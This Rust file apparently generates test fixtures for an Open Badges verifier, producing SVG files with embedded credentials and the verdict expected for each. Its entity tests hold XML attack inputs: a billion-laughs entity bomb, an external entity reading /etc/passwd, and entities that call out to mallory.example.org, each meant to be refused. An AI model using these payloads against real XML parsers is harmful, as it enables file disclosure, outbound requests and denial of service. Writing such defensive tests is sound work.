//! SVG.

use super::{badge, refused};
use crate::make::badge::{key_issuer, small};
use crate::make::edit::swap;
use crate::make::expected::valid;
use crate::make::picture::SVG;
use crate::make::sign::jwt_by;
use crate::make::{Group, keys};

pub(super) fn svg(inside: &str) -> String {
    swap(SVG, "<rect", &format!("{inside}<rect"))
}

pub(super) const NAMESPACE: &str = "xmlns:openbadges=\"https://purl.imsglobal.org/ob/v3p0\"";

pub(super) fn element(content: &str) -> String {
    format!("<openbadges:credential {NAMESPACE}>{content}</openbadges:credential>")
}

pub(super) fn elements(group: &mut Group) {
    let badge = badge();
    let jwt = jwt_by(&small(&key_issuer()), &keys::issuer());
    let cdata = format!("<![CDATA[{badge}]]>");
    let own = element(&cdata);
    let other = element(&format!(
        "<![CDATA[{}]]>",
        swap(&badge, "Made ten edits", "Made 1000 edits")
    ));
    group.add(
        "two-elements.svg",
        svg(&format!("{own}{other}")),
        refused("bake.two-credentials"),
        "two credentials: which one is meant?",
    );
    group.add(
        "other-prefix.svg",
        svg(&own
            .replace("openbadges:", "ob:")
            .replace("xmlns:openbadges", "xmlns:ob")
            .replace("xmlns:ob:", "xmlns:")),
        valid(),
        "another prefix for the same namespace",
    );
    let escaped = badge
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;");
    group.add(
        "escaped.svg",
        svg(&element(&escaped)),
        valid(),
        "text with escapes instead of one CDATA section",
    );
    let (left, right) = badge.split_at(300);
    let parts = format!("<![CDATA[{left}]]><!-- here --><![CDATA[{right}]]>");
    group.add(
        "two-sections.svg",
        svg(&element(&parts)),
        valid(),
        "two CDATA sections and a comment",
    );
    let nested = svg(&format!("<g><metadata>{own}</metadata></g>"));
    group.add(
        "nested.svg",
        nested,
        valid(),
        "the element stands deeper than the standard has it",
    );
    let wrong = own.replace(
        "https://purl.imsglobal.org/ob/v3p0",
        "https://example.org/ob",
    );
    group.add(
        "other-namespace.svg",
        svg(&wrong),
        refused("bake.no-credential"),
        "an element of another namespace",
    );
    let draft = own.replace(
        "https://purl.imsglobal.org/ob/v3p0",
        "https://purl.imsglobal.org/spec/ob/v3p0",
    );
    group.add(
        "almost-namespace.svg",
        svg(&draft),
        refused("bake.no-credential"),
        "a namespace that is almost right",
    );
    let attribute = format!(
        "<openbadges:credential {NAMESPACE} verify=\"{jwt}\">{cdata}</openbadges:credential>"
    );
    group.add(
        "attribute-and-text.svg",
        svg(&attribute),
        refused("bake.verify-and-body"),
        "a JWT as attribute and JSON as text: which one is meant?",
    );
    let body = element(&jwt);
    group.add(
        "jwt-as-text.svg",
        svg(&body),
        valid(),
        "a JWT as text instead of an attribute",
    );
    group.add(
        "empty-element.svg",
        svg(&element("")),
        refused("bake.empty-credential"),
        "the place is there, and empty",
    );
    group.add(
        "element-inside.svg",
        svg(&element("<g/>")),
        refused("bake.not-text"),
        "an element in the place of a credential",
    );
    group.add(
        "svg-no-credential.svg",
        SVG,
        refused("bake.no-credential"),
        "a picture without a badge",
    );
    group.add(
        "commented-out.svg",
        svg(&format!("<!--{}-->", element("x"))),
        refused("bake.no-credential"),
        "a credential inside a comment is none",
    );
    let cut = svg(&own);
    group.add(
        "svg-truncated.svg",
        cut[..cut.len() - 20].to_owned(),
        refused("bake.not-well-formed"),
        "the file ends before its end",
    );
    let doctype = format!(
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n{}",
        svg(&own)
    );
    group.add(
        "doctype.svg",
        doctype,
        valid(),
        "a document type without entities",
    );
}

pub(super) fn entities(group: &mut Group) {
    let own = element(&format!("<![CDATA[{}]]>", badge()));
    let with_type =
        |subset: &str, content: &str| format!("<!DOCTYPE svg [\n{subset}\n]>\n{}", svg(content));
    let mut bomb = String::from("<!ENTITY a0 \"ha\">");
    for level in 1..30 {
        bomb.push_str(&format!("\n<!ENTITY a{level} \"&a{0};&a{0};\">", level - 1));
    }
    let declared = || refused("bake.entity-declaration");
    group.add(
        "entity-bomb.svg",
        with_type(&bomb, &element("&a29;")),
        declared(),
        "entities that unfold without end",
    );
    let file = "<!ENTITY badge SYSTEM \"file:///etc/passwd\">";
    group.add(
        "external-entity.svg",
        with_type(file, &element("&badge;")),
        declared(),
        "an entity that reads the verifier's files",
    );
    let web = "<!ENTITY badge SYSTEM \"https://mallory.example.org/badge\">";
    group.add(
        "external-entity-web.svg",
        with_type(web, &element("&badge;")),
        declared(),
        "an entity that calls out",
    );
    let parameter = "<!ENTITY % all SYSTEM \"https://mallory.example.org/all.dtd\">\n%all;";
    group.add(
        "parameter-entity.svg",
        with_type(parameter, &own),
        declared(),
        "a parameter entity that calls out",
    );
    let unused = "<!ENTITY label \"Badge\">";
    group.add(
        "unused-entity.svg",
        with_type(unused, &own),
        declared(),
        "an entity that is not even used",
    );
    group.add(
        "unknown-entity.svg",
        svg(&element("&badge;")),
        refused("bake.unknown-entity"),
        "an entity that is not declared",
    );
    let mut wide = vec![0xff, 0xfe];
    wide.extend(svg(&own).encode_utf16().flat_map(u16::to_le_bytes));
    group.add(
        "utf-16.svg",
        wide,
        refused("bake.encoding"),
        "another encoding than UTF-8",
    );
    let deep = svg(&format!(
        "{}{own}{}",
        "<g>".repeat(2000),
        "</g>".repeat(2000)
    ));
    group.add(
        "deep.svg",
        deep,
        refused("bake.too-complex"),
        "nested too deep to be a picture",
    );
}
